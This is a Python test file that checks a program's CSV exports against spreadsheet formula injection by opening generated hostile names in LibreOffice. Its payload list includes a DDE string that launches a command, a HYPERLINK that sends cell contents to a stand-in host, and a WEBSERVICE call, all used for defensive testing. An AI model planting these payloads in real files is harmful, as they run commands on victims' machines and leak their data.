#!/usr/bin/python3
"""Exports without formulas: hostile names go out as CSV, LibreOffice reads them, and not one of them is a formula.

    csv_export_test.py LINDUNG CSV_CELLS
"""

import csv
import io
import json
import pathlib
import random
import shutil
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree as tree

import demo
from operator_socket import Operator

CELLS = sys.argv.pop(2) if len(sys.argv) > 2 else None
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
NAMES = 100_000
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'", "''", "\"=", " =", ",=", ";=", "|=", "a;=", "a,\"=", "a\n="]
PAYLOADS = ["1+1", "SUM(A1:A9)", "HYPERLINK(\"http://x.example/?\"&A1;\"klik\")", "cmd|' /C calc'!A0", "WEBSERVICE(\"http://x.example\")",
            "DDE(\"a\";\"b\";\"c\")", "IMPORTXML(A1)", "2+3*cmd", "A1", "9", "Siti Aminah", "José Ñusu", "@SUM(1+1)*cmd|' /C calc'!A0"]  # fmt: skip


def hostile_names(count):
    chance = random.Random(20261122)
    return [chance.choice(STARTS) + chance.choice(PAYLOADS) + chance.choice(["", "", f" {i}", "\"", "\";=1+1", "\n-1"]) for i in range(count)]


class Exports(unittest.TestCase):
    def setUp(self):
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="lindung-csv-"))
        self.addCleanup(shutil.rmtree, self.folder, ignore_errors=True)
        self.assertIsNotNone(shutil.which("soffice"), "LibreOffice is needed (script/bootstrap): without it nothing is proved")

    def write(self, names):
        lines = "".join(json.dumps(name) + "\n" for name in names)
        return subprocess.run([CELLS], input=lines.encode(), capture_output=True, check=True, timeout=120).stdout

    def read_back(self, cells):
        lines = "".join(json.dumps(cell) + "\n" for cell in cells)
        done = subprocess.run([CELLS, "--read"], input=lines.encode(), capture_output=True, check=True, timeout=120)
        return [json.loads(line) for line in done.stdout.splitlines()]

    def spreadsheet(self, content, separator=44):
        """(cells with a formula, texts of the second column) as LibreOffice has them; formulas are evaluated on purpose."""
        source = self.folder / "export.csv"
        source.write_bytes(content)
        target = self.folder / "export.fods"
        target.unlink(missing_ok=True)
        # Separator, text mark, UTF-8, first line, …, quoted text is text: no, detect numbers, …, evaluate formulas.
        options = f"CSV:{separator},34,76,1,,0,false,true,false,false,false,0,true"
        subprocess.run(["soffice", f"-env:UserInstallation=file://{self.folder}/profile", "--headless", f"--infilter={options}",
                        "--convert-to", "fods", "--outdir", str(self.folder), str(source)],
                       check=True, capture_output=True, timeout=800)  # fmt: skip
        formulas, texts = 0, []
        for _, row in tree.iterparse(target):
            if row.tag != TABLE + "table-row":
                continue
            cells = row.findall(TABLE + "table-cell")
            formulas += sum(1 for cell in cells if cell.get(TABLE + "formula"))
            if len(cells) > 1:
                texts.append("\n".join(self.text_of(line) for line in cells[1].findall(TEXT + "p")))
            row.clear()
        return formulas, texts

    def text_of(self, line):
        out = line.text or ""
        for child in line:
            if child.tag == TEXT + "s":
                out += " " * int(child.get(TEXT + "c", "1"))
            elif child.tag == TEXT + "tab":
                out += "\t"
            else:
                out += self.text_of(child)
            out += child.tail or ""
        return out

    def test_a_hundred_thousand_hostile_names_are_no_formula_and_come_back(self):
        names = hostile_names(NAMES)
        content = self.write(names)
        formulas, texts = self.spreadsheet(content)
        self.assertEqual(formulas, 0)
        self.assertEqual(len(texts), NAMES)
        # What we wrote is what it shows, but for tabs, which it drops, its one kind of line end, and the first apostrophe, which it may take
        # for a mark of its own; and what we wrote reads back as what it was.
        cells = [row[1] for row in csv.reader(io.StringIO(content.decode(), newline=""))]
        self.assertEqual(self.read_back(cells), names)
        plain = lambda text: text.replace("\r\n", "\n").replace("\r", "\n").replace("\t", "")
        changed = [(cell, text) for cell, text in zip(cells, texts) if plain(text) not in (plain(cell), plain(cell.removeprefix("'")))]
        self.assertEqual(changed[:5], [])

    def test_nor_where_the_program_splits_lines_elsewhere(self):
        content = self.write(hostile_names(5_000))
        for separator in (59, 9, 124):  # semicolon, as Indonesia's settings have it; tab; bar
            self.assertEqual(self.spreadsheet(content, separator)[0], 0, separator)

    def test_the_same_names_without_the_guard_are_formulas(self):
        """Or the two tests above would prove nothing."""
        rows = (f'{i},"{name.replace(chr(34), chr(34) * 2)}"\r\n' for i, name in enumerate(hostile_names(500), 1))
        self.assertGreater(self.spreadsheet("".join(rows).encode())[0], 5)

    def test_lists_of_the_program_are_exported_so(self):
        server = demo.Demo(self.folder / "d", 40)
        self.addCleanup(server.kill)
        server.start()
        names = ["=1+1", "+62 21 555", "@SUM(1+1)", "Warung \"Enak\"; =2+2", "－5"]
        with Operator(server.data) as operator:
            for name in names:
                operator.run("venue/add", name=name, category="office", capacity=10)
        content = server.command("venue", "list", "--csv").stdout
        self.assertTrue(content.startswith('"venue",'), content[:80])
        formulas, _ = self.spreadsheet(content.encode())
        self.assertEqual(formulas, 0)
        for name in ("'=1+1", "'+62 21 555", "'@SUM(1+1)", "'－5"):
            self.assertIn(f'"{name}"', content)
        self.assertIn('"Warung ""Enak""; =2+2"', content)
        server.command("venue", "list", "--csv", "--json", expect=2)


if __name__ == "__main__":
    demo.run()
